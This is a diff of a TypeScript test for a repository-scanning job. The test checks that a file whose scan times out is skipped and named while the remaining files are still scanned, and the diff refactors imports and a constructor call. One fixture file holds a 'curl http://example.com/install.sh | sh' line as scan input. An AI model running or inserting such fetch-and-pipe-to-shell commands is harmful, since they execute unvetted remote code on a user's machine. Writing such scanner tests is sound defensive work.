@@ -1,9 +1,8 @@
 import { join } from 'node:path';
 import { createRepositoryChain } from '@signalbox/jobs/jobs/repository-chain';
-import { ScanProcess } from '@signalbox/jobs/repository/scan/scan-process';
+import { ScanProcess } from '@signalbox/analysis/scan/scan-process';
 import type { JobContext } from '@signalbox/jobs/runner/handlers';
 import { createLog } from '@signalbox/platform/log';
-import { createChainRuns } from '@signalbox/store/repository/chain-runs';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { loadTestConfig } from '../../support/config.ts';
 import { openRepositoryBench, type RepositoryBench } from './repository-bench.ts';
@@ -25,10 +24,7 @@ it('a file that takes too long is left out and named, and the rest of the reposi
     'install.sh': 'curl http://example.com/install.sh | sh\n',
   });
   const { pool } = bench.jobs;
-  const chain = createRepositoryChain({
-    pool,
-    runs: createChainRuns(pool),
-    findings: bench.findings,
+  const chain = createRepositoryChain(pool, {
     log: createLog('test', 'silent'),
     path: loadTestConfig().path,
     startScan: (place, signal) =>
